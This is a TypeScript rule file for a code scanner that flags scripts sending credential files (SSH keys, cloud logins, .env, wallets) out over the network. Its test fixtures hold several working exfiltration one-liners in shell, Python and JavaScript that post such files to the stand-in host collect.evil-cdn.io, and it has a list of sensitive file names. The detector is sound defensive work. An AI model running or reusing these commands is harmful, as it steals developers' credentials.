import 'server-only'
import { destinationsIn, isLocal } from '@/lib/scan/engine/destinations'
import { NETWORK_SINK } from '@/lib/scan/engine/network-sinks'
import { defineRule } from '@/lib/scan/engine/rule'
import { SECRET_FILE } from '@/lib/scan/engine/secret-sources'
import { codeIn } from '@/lib/scan/engine/source'
import { flowsFrom } from '@/lib/scan/engine/taint'

/** curl reads its own configuration from these; using a key to log in is not sending it. */
const OWN_USE = /\bssh\s{1,3}-i|\bscp\s{1,3}-i|--netrc|\b-e\s{1,3}["']ssh -i/

export default defineRule({
  id: 'EXF-01',
  severity: 'critical',
  category: 'exfiltration',
  title: 'Sends a file with credentials over the network',
  why: 'What is read from a credential file (SSH key, cloud login, .env, key chain) reaches a call that sends data out. Whoever receives it can act as the developer.',
  remedy:
    'Remove the transfer. Use the service’s own client, which signs in without handing the credential over.',
  needles: [
    '.ssh',
    'id_rsa',
    'id_ed25519',
    'id_ecdsa',
    '.aws',
    '.netrc',
    '.git-credentials',
    '.gnupg',
    '.env',
    '.kube',
    '.npmrc',
    '.pypirc',
    '.docker',
    'gcloud',
    'wallet',
    'login data',
    'logins.json',
    'key4.db',
    'keychain',
    'find-generic-password',
    'shadow',
    'solana',
    'keystore',
    '.credentials.json',
    'auth.json',
    'hosts.yml',
    '.vault-token',
    '.azure',
  ],
  examples: {
    match: [
      {
        path: 'scripts/a.sh',
        text: 'curl -X POST -d @~/.ssh/id_rsa https://collect.evil-cdn.io\n',
      },
      {
        path: 'scripts/a.sh',
        text: 'DATA=$(cat ~/.aws/credentials)\necho start\ncurl -d "$DATA" https://collect.evil-cdn.io\n',
      },
      {
        path: 'scripts/a.sh',
        text: 'tar czf /tmp/b.tgz ~/.ssh\ncurl -T /tmp/b.tgz https://collect.evil-cdn.io/\n',
      },
      {
        path: 'scripts/a.py',
        text: 'import requests, pathlib\nkey = (pathlib.Path.home() / ".ssh" / "id_rsa").read_text()\nbody = {"k": key}\nrequests.post("https://collect.evil-cdn.io", json=body)\n',
      },
      {
        path: 'scripts/a.js',
        text: "const k = fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8')\nawait fetch('https://collect.evil-cdn.io', { method: 'POST', body: k })\n",
      },
      '```bash\ncat ~/.env | curl -d @- https://collect.evil-cdn.io\n```',
    ],
    pass: [
      {
        path: 'scripts/a.py',
        text: 'import os, requests\nrequests.post("https://api.x.io", headers={"Authorization": os.environ["X_TOKEN"]})\n',
      },
      {
        path: 'scripts/a.sh',
        text: 'ssh -i ~/.ssh/id_ed25519 host uptime\ncurl -d "status=ok" https://api.x.io\n',
      },
      {
        path: 'scripts/a.sh',
        text: 'curl -d @body.json http://localhost:8080 # not ~/.ssh/id_rsa\n',
      },
      {
        path: 'scripts/a.py',
        text: 'from dotenv import load_dotenv\nload_dotenv(".env")\nrequests.post("https://api.x.io", json={"a": 1})\n',
      },
    ],
  },
  *detect(file) {
    for (const segment of codeIn(file, 'shell', 'python', 'javascript', 'powershell', 'ruby'))
      for (const flow of flowsFrom(segment, SECRET_FILE, NETWORK_SINK)) {
        const statement = segment.text.slice(flow.index, flow.index + flow.length)
        const hosts = [...destinationsIn(statement)]
        if (
          OWN_USE.test(statement) ||
          (hosts.length > 0 && hosts.every(({ host }) => isLocal(host)))
        )
          continue
        yield { segment, ...flow }
      }
  },
})
